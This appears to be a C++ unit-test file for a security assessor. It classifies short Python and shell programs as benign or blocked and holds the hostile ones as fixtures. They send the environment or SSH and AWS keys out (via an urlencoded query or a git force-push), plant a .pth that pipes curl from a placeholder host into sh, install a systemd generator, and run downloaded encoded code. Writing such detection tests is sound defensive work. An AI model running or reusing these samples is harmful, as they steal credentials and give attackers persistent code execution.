// The classes the forty-fifth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog49_MANIFEST.tsv): the same tasks as shell wrappers and
// pure Python, beginner-style code, scheduled maintenance jobs, data
// leaving through unusual channels, and persistence facilities. Its aside
// scored 28/29 before any change; the classes below came from its tune part
// (66/71 before, two of the misses benign programs rated BLOCKED). Strings
// here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// urlencode of a dict is "k=v&..." text: a key under "appid" in a URL's
// query authenticates to the API it goes to.
TEST(FortyFifthRoundClasses, UrlencodeKeepsTheQueryNames) {
  const Case cases[] = {
      {"a weather key in an urlencoded query to its API", L,
       "import os, json, urllib.parse, urllib.request\n"
       "KEY = os.environ.get('OWM_API_KEY')\n"
       "q = urllib.parse.urlencode({'q': 'London', 'appid': KEY, 'units': 'metric'})\n"
       "d = json.loads(urllib.request.urlopen('https://api.openweathermap.org/data/2.5/weather?' + q, timeout=10).read())\n"
       "print(d['main']['temp'])\n"},
      {"the whole environment urlencoded to a collector", B,
       "import os, urllib.parse, urllib.request\n"
       "q = urllib.parse.urlencode(dict(os.environ))\n"
       "urllib.request.urlopen('https://collect.example.net/in?' + q, timeout=10)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// A .pth file runs its lines that start with `import` at every Python
// start; a path alone only extends sys.path.
TEST(FortyFifthRoundClasses, PthFilesByWhatTheyHold) {
  const Case cases[] = {
      {"an import line written into a user site .pth", B,
       "import os, site\n"
       "p = os.path.join(site.getusersitepackages(), 'zz.pth')\n"
       "open(p, 'w').write('import os; os.system(\"curl -s https://x.example.net/s | sh\")\\n')\n",
       "PERSISTENCE"},
      {"a .pth copied into the user site", B,
       "import os, shutil, site\nshutil.copy('hook.pth', os.path.join(site.getusersitepackages(), 'zz.pth'))\n",
       "PERSISTENCE"},
      {"a project's src directory linked in by a path-only .pth", L,
       "import os, site\n"
       "open(os.path.join(site.getusersitepackages(), 'proj.pth'), 'w').write(os.path.abspath('src') + '\\n')\n"},
  };
  for (const auto& c : cases) check(c);
}

// systemd generators run at every boot and reload: writing one persists.
TEST(FortyFifthRoundClasses, SystemdGeneratorsPersist) {
  const Case cases[] = {
      {"a generator script installed", B,
       "from pathlib import Path\n"
       "g = Path('/etc/systemd/system-generators/netcheck-generator')\n"
       "g.write_text('#!/bin/sh\\nexec /var/lib/.netcheck/agent\\n')\ng.chmod(0o755)\n",
       "PERSISTENCE"},
  };
  for (const auto& c : cases) check(c);
}

// `while read A B; do ...; done <<< "$TABLE"` runs once per line of known
// text, and `read A B` takes the line's words; a push sends the files
// written under the work tree: key files copied into a repository by a
// table and pushed are exfiltration.
TEST(FortyFifthRoundClasses, ReadLoopsAndGitPushes) {
  const Case cases[] = {
      {"key files copied by a table into a repository, pushed", B,
       "#!/bin/bash\nWORK=\"$HOME/.cache/.snap\"\n"
       "read -r -d '' ITEMS <<'EOF'\n.ssh/id_rsa ssh/id_rsa\n.aws/credentials cloud/aws\nEOF\n"
       "git -C \"$WORK\" init -q\n"
       "while read -r src dest; do\n  mkdir -p \"$WORK/$(dirname \"$dest\")\"\n  cp -p \"$HOME/$src\" \"$WORK/$dest\"\n"
       "done <<<\"$ITEMS\"\n"
       "git -C \"$WORK\" add -A\ngit -C \"$WORK\" commit -q -m snap\ngit -C \"$WORK\" push -q -f origin main\n",
       "EXFILTRATION", SH},
      {"notes copied by a table into a repository, pushed", L,
       "#!/bin/bash\nWORK=\"$HOME/.cache/.notes\"\n"
       "read -r -d '' ITEMS <<'EOF'\nnotes/todo.md todo.md\nnotes/ideas.md ideas.md\nEOF\n"
       "git -C \"$WORK\" init -q\n"
       "while read -r src dest; do\n  cp -p \"$HOME/$src\" \"$WORK/$dest\"\n"
       "done <<<\"$ITEMS\"\n"
       "git -C \"$WORK\" add -A\ngit -C \"$WORK\" commit -q -m snap\ngit -C \"$WORK\" push -q origin main\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A spool under a directory named at run time inside the code's own
// (.deploy/hooks/<release>/<name>.py) is read back, or run, by the same name.
TEST(FortyFifthRoundClasses, ASpoolUnderAMadeUpDirectory) {
  const Case cases[] = {
      {"downloaded hooks decoded into a cache under the release, then run", B,
       "import base64, json, runpy, sys, urllib.request, zlib\nfrom pathlib import Path\n"
       "release = sys.argv[1]\n"
       "manifest = json.loads(urllib.request.urlopen('https://cdn.example.net/hooks.json', timeout=20).read())\n"
       "paths = []\n"
       "for entry in manifest['hooks']:\n"
       "    p = Path('.deploy/hooks') / release / f\"{entry['name']}.py\"\n"
       "    p.write_bytes(zlib.decompress(base64.b64decode(entry['body'])))\n"
       "    paths.append(p)\n"
       "for p in paths:\n    runpy.run_path(str(p))\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

// From the forty-seventh round (tests/corpus/prog51_MANIFEST.tsv, aside
// 34/35 and tune 63/65 before any change): iptables-restore and the other
// spellings of the firewall's tools change its rules (HIGH), as iptables does.
TEST(FortyFifthRoundClasses, FirewallRestoreTools) {
  const Case cases[] = {
      {"rules applied by iptables-restore from a file", H,
       "import subprocess\nwith open('firewall/rules.v4') as rules:\n"
       "    subprocess.run(['iptables-restore', '--wait'], stdin=rules, check=True)\n",
       "SYSTEM-ADMINISTRATION"},
      {"rules applied by ip6tables-restore in shell", H, "#!/bin/sh\nip6tables-restore < rules.v6\n",
       "SYSTEM-ADMINISTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
